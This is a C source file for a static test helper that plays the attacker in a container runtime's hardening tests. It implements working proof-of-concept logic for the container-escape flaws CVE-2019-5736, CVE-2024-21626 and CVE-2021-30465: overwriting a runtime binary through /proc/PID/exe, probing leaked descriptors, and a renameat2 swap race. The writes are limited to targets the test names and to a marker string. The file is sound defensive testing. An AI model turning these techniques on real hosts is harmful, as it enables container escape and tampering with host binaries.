/* attack — a static helper for tests/integration/20-hardening.sh: the attacker's side of the
 * container-escape classes kelp must resist. It runs inside a container (exe-grab, fdinfo,
 * peek) or on the host (swap). Plain libc only: linked statically, copied into busybox rootfs
 * like probe.
 *
 *   attack exe-grab TARGETS [SKIP...]
 *       CVE-2019-5736: watch every process this pid namespace shows and open /proc/PID/exe
 *       (O_PATH) of each whose file is not our own executable nor one of the SKIP paths: that is
 *       a binary from outside, such as a runtime caught while it is inside the container. Each
 *       new one is kept and reported as "grabbed PID DEV:INO". Those named in TARGETS (a
 *       comma-separated list of DEV:INO, st_dev and st_ino in decimal: the test's copies, so
 *       that no other host binary is ever written) are tried for writing through
 *       /proc/self/fd/N all along (ETXTBSY while the binary still runs) and a last time on
 *       SIGTERM; a successful open overwrites the file's first bytes with
 *       "KELP-HARDENING-PWNED" and reports "wrote DEV:INO", a failure "write-failed DEV:INO
 *       ERRNO". Prints "ready" first and "summary grabbed=N wrote=M" last, then exits 0.
 *   attack fdinfo
 *       CVE-2024-21626: one line per open fd >= 3 but the one reading /proc/self/fd:
 *       "FD TYPE TARGET" with TYPE dir, reg, chr, fifo, sock, lnk, blk or other and TARGET
 *       the /proc/self/fd link ("none" when there is no such fd).
 *   attack peek PID
 *       CVE-2024-21626, from a process sharing a pid namespace with a runtime process: try
 *       /proc/PID/cwd, /proc/PID/root, /proc/PID/exe and every /proc/PID/fd/N. One line each:
 *       "reached NAME TYPE" (opened: TYPE as in fdinfo) or "denied NAME ERRNO", then
 *       "summary reached=N".
 *   attack swap A B [SECS]
 *       CVE-2021-30465: exchange paths A and B (renameat2 RENAME_EXCHANGE) in a tight loop
 *       until SIGTERM or SECS seconds (default 60); prints "swapped N" at the end.
 *
 * Exit status: 0 when it ran (what it found is in the output), 1 when it could not, 2 for bad
 * usage. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define PAYLOAD "KELP-HARDENING-PWNED"
#define MAX_HELD 64
#define MAX_SKIP 64

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int usage(void)
{
	fputs("usage: attack exe-grab DEV:INO[,DEV:INO...] [SKIP...] | fdinfo | peek PID | swap A B [SECS]\n", stderr);
	return 2;
}

static int die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	return 1;
}

static int catch_term(void)
{
	struct sigaction sa = { .sa_handler = on_term };
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGTERM, &sa, NULL) < 0 || sigaction(SIGINT, &sa, NULL) < 0)
		return die("sigaction");
	return 0;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

struct file_id {
	dev_t dev;
	ino_t ino;
};

struct held {
	int fd;
	struct file_id id;
	bool done; /* written, failed for good, or not a target */
};

/* "DEV:INO,DEV:INO,..." */
static int parse_ids(const char *s, struct file_id *ids, size_t max, size_t *ret_n)
{
	size_t n = 0;
	while (*s) {
		char *end;
		errno = 0;
		unsigned long long dev = strtoull(s, &end, 10);
		if (errno || end == s || *end != ':' || n == max)
			return -1;
		s = end + 1;
		unsigned long long ino = strtoull(s, &end, 10);
		if (errno || end == s || (*end && *end != ','))
			return -1;
		ids[n++] = (struct file_id){ (dev_t)dev, (ino_t)ino };
		s = *end ? end + 1 : end;
	}
	*ret_n = n;
	return 0;
}

static bool id_in(const struct file_id *ids, size_t n, const struct stat *st)
{
	for (size_t i = 0; i < n; i++)
		if (ids[i].dev == st->st_dev && ids[i].ino == st->st_ino)
			return true;
	return false;
}

/* Open the held file for writing through its /proc/self/fd link; on success overwrite its
 * first bytes. Returns 1 when written, 0 when still busy (ETXTBSY), -1 on another error. */
static int try_write(struct held *h, bool report_busy)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		if (errno == ETXTBSY && !report_busy)
			return 0;
		printf("write-failed %lu:%lu %d\n", (unsigned long)h->id.dev, (unsigned long)h->id.ino, errno);
		h->done = true;
		return -1;
	}
	ssize_t n = pwrite(fd, PAYLOAD, strlen(PAYLOAD), 0);
	int e = errno;
	close(fd);
	h->done = true;
	if (n != (ssize_t)strlen(PAYLOAD)) {
		printf("write-failed %lu:%lu %d\n", (unsigned long)h->id.dev, (unsigned long)h->id.ino, n < 0 ? e : EIO);
		return -1;
	}
	printf("wrote %lu:%lu\n", (unsigned long)h->id.dev, (unsigned long)h->id.ino);
	return 1;
}

static int cmd_exe_grab(int argc, char **argv)
{
	struct file_id skip[MAX_SKIP], targets[MAX_SKIP];
	size_t nskip = 0, ntargets = 0;
	struct held held[MAX_HELD];
	size_t nheld = 0;
	int wrote = 0;
	struct stat st;
	pid_t self = getpid();

	if (argc < 1 || parse_ids(argv[0], targets, MAX_SKIP, &ntargets) < 0)
		return usage();
	argc--;
	argv++;
	if (catch_term() < 0)
		return 1;
	if (stat("/proc/self/exe", &st) < 0)
		return die("stat /proc/self/exe");
	skip[nskip++] = (struct file_id){ st.st_dev, st.st_ino };
	for (int i = 0; i < argc && nskip < MAX_SKIP; i++) {
		if (stat(argv[i], &st) < 0)
			return die(argv[i]);
		skip[nskip++] = (struct file_id){ st.st_dev, st.st_ino };
	}
	puts("ready");
	fflush(stdout);

	while (!stop) {
		DIR *d = opendir("/proc");
		if (!d)
			return die("open /proc");
		struct dirent *de;
		while ((de = readdir(d)) && nheld < MAX_HELD) {
			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			pid_t pid = (pid_t)atoi(de->d_name);
			if (pid == self)
				continue;
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
			/* Refused (EACCES/EPERM) while the target is more privileged than we are: try
			 * again next round, it may drop its privileges before it is gone. */
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) < 0 || id_in(skip, nskip, &st)) {
				close(fd);
				continue;
			}
			bool known = false;
			for (size_t i = 0; i < nheld && !known; i++)
				known = held[i].id.dev == st.st_dev && held[i].id.ino == st.st_ino;
			if (known) {
				close(fd);
				continue;
			}
			held[nheld] = (struct held){ .fd = fd, .id = { st.st_dev, st.st_ino },
						     .done = !id_in(targets, ntargets, &st) };
			nheld++;
			printf("grabbed %d %lu:%lu\n", (int)pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
			fflush(stdout);
		}
		closedir(d);
		for (size_t i = 0; i < nheld; i++)
			if (!held[i].done && try_write(&held[i], false) > 0)
				wrote++;
		fflush(stdout);
	}
	/* The last chance: by now the runtime's processes have all exited. */
	for (size_t i = 0; i < nheld; i++)
		if (!held[i].done && try_write(&held[i], true) > 0)
			wrote++;
	printf("summary grabbed=%zu wrote=%d\n", nheld, wrote);
	return 0;
}

static const char *type_name(mode_t m)
{
	switch (m & S_IFMT) {
	case S_IFDIR: return "dir";
	case S_IFREG: return "reg";
	case S_IFCHR: return "chr";
	case S_IFBLK: return "blk";
	case S_IFIFO: return "fifo";
	case S_IFSOCK: return "sock";
	case S_IFLNK: return "lnk";
	default: return "other";
	}
}

static int cmd_fdinfo(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return die("open /proc/self/fd");
	int fds[1024];
	size_t n = 0;
	struct dirent *de;
	while ((de = readdir(d)) && n < sizeof(fds) / sizeof(fds[0])) {
		if (!isdigit((unsigned char)de->d_name[0]))
			continue;
		int fd = atoi(de->d_name);
		if (fd >= 3 && fd != dirfd(d))
			fds[n++] = fd;
	}
	closedir(d);
	if (n == 0)
		puts("none");
	for (size_t i = 0; i < n; i++) {
		char path[64], target[PATH_MAX];
		struct stat st;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		ssize_t l = readlink(path, target, sizeof(target) - 1);
		target[l < 0 ? 0 : l] = '\0';
		printf("%d %s %s\n", fds[i], fstat(fds[i], &st) < 0 ? "unknown" : type_name(st.st_mode), target);
	}
	return 0;
}

/* Open /proc/PID/NAME (O_PATH): one "reached" or "denied" line; 1 when reached. */
static int peek_one(const char *pid, const char *name)
{
	char path[PATH_MAX];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("denied %s %d\n", name, errno);
		return 0;
	}
	printf("reached %s %s\n", name, fstat(fd, &st) < 0 ? "unknown" : type_name(st.st_mode));
	close(fd);
	return 1;
}

static int cmd_peek(int argc, char **argv)
{
	if (argc < 1 || !*argv[0] || strspn(argv[0], "0123456789") != strlen(argv[0]))
		return usage();
	const char *pid = argv[0];
	int reached = peek_one(pid, "cwd") + peek_one(pid, "root") + peek_one(pid, "exe");
	char path[64];
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *d = opendir(path);
	if (!d) {
		printf("denied fd %d\n", errno);
	} else {
		struct dirent *de;
		while ((de = readdir(d))) {
			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			char name[64];
			snprintf(name, sizeof(name), "fd/%s", de->d_name);
			reached += peek_one(pid, name);
		}
		closedir(d);
	}
	printf("summary reached=%d\n", reached);
	return 0;
}

static int cmd_swap(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	double secs = argc > 2 ? atof(argv[2]) : 60;
	if (secs <= 0)
		return usage();
	if (catch_term() < 0)
		return 1;
	unsigned long n = 0;
	double end = now() + secs;
	while (!stop) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
			return die("renameat2 RENAME_EXCHANGE");
		if (++n % 4096 == 0 && now() > end)
			break;
	}
	/* End with the paths as they were: an even number of exchanges. */
	if (n % 2 && syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0)
		n++;
	printf("swapped %lu\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	const char *cmd = argv[1];
	int r;
	if (strcmp(cmd, "exe-grab") == 0)
		r = cmd_exe_grab(argc - 2, argv + 2);
	else if (strcmp(cmd, "fdinfo") == 0)
		r = cmd_fdinfo();
	else if (strcmp(cmd, "peek") == 0)
		r = cmd_peek(argc - 2, argv + 2);
	else if (strcmp(cmd, "swap") == 0)
		r = cmd_swap(argc - 2, argv + 2);
	else
		return usage();
	if (fflush(stdout) != 0)
		return die("write stdout");
	return r;
}
